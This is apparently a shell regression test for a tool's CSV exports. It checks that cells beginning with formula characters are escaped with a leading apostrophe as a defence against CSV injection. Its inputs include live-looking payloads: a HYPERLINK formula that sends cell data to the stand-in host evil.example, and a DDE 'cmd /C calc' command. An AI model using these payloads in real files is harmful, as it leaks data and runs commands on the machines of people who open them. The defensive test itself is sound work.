#!/usr/bin/env bash
# csv.sh - issue 13 item 11: a CSV cell that begins with =, +, -, @ (or a
# tab or CR) is a formula to a spreadsheet, and the text in these cells is
# written by others: the client name is set on the client machine, the
# Host header by whoever sends the request. Opened in a spreadsheet, an
# export could run =HYPERLINK(...) or a DDE command. Now such a cell is
# prefixed with ' (OWASP's advice on CSV injection) in slicer export's
# CSV and in manager stats --csv; the rest of the cell is kept, and cells
# that are numbers stay numbers.
source "$(dirname "$0")/../lib/common.sh"
source "$REPO/tests/lib/nginx.sh"
need_cmd curl
MANAGER=$BUILD/bin/manager
make_site "$WORK/site"
nginx_start "$WORK/site"
DB=$WORK/run.db

"$OBSERVE" -q -o "$DB" -c '=HYPERLINK("http://evil.example/?"&A1,"x")' -- \
  curl -s -o /dev/null -H "Host: @SUM(1+1)*cmd|' /C calc'!A0" "$NGINX_URL/100b" || fail "curl"
"$OBSERVE" -q -o "$DB" -c '+cmd' -- curl -s -o /dev/null -H 'Host: -2+3' "$NGINX_URL/50k" || fail "curl"
"$OBSERVE" -q -o "$DB" -c $'\t=1+1' -- curl -s -o /dev/null "$NGINX_URL/100b" || fail "curl"
expect_eq "$(q "$DB" "SELECT count(*) FROM exchange")" 3 "exchanges recorded"

"$SLICER" export -d "$DB" --format csv -o "$WORK/run.csv"
"$MANAGER" stats "$DB" --by client --csv > "$WORK/stats.csv"
"$PYTHON" - "$DB" "$WORK/run.csv" "$WORK/stats.csv" <<'PY' || fail "formula cells"
import csv, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
formula = ("=", "+", "-", "@", "\t", "\r")

def number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False

def check(path, key, query):
    rows = list(csv.DictReader(open(path, encoding="utf-8", newline="")))
    cells = [c for r in rows for c in r.values() if c]
    bad = [c for c in cells if c.startswith(formula) and not number(c)]
    if bad:
        sys.exit(f"{path}: formula cells {bad!r}")
    got = sorted({r[key] for r in rows})
    want = sorted({"'" + v if v.startswith(formula) else v
                   for (v,) in db.execute(query)})
    if got != want:
        sys.exit(f"{path}: {key} {got!r}, expected {want!r}")
    print(f"ok: {path}: {len(cells)} cells, no formula; {key} = {got!r}")

check(sys.argv[2], "client", "SELECT name FROM client")
check(sys.argv[2], "host", "SELECT host FROM exchange")
check(sys.argv[3], "group", "SELECT name FROM client")
PY
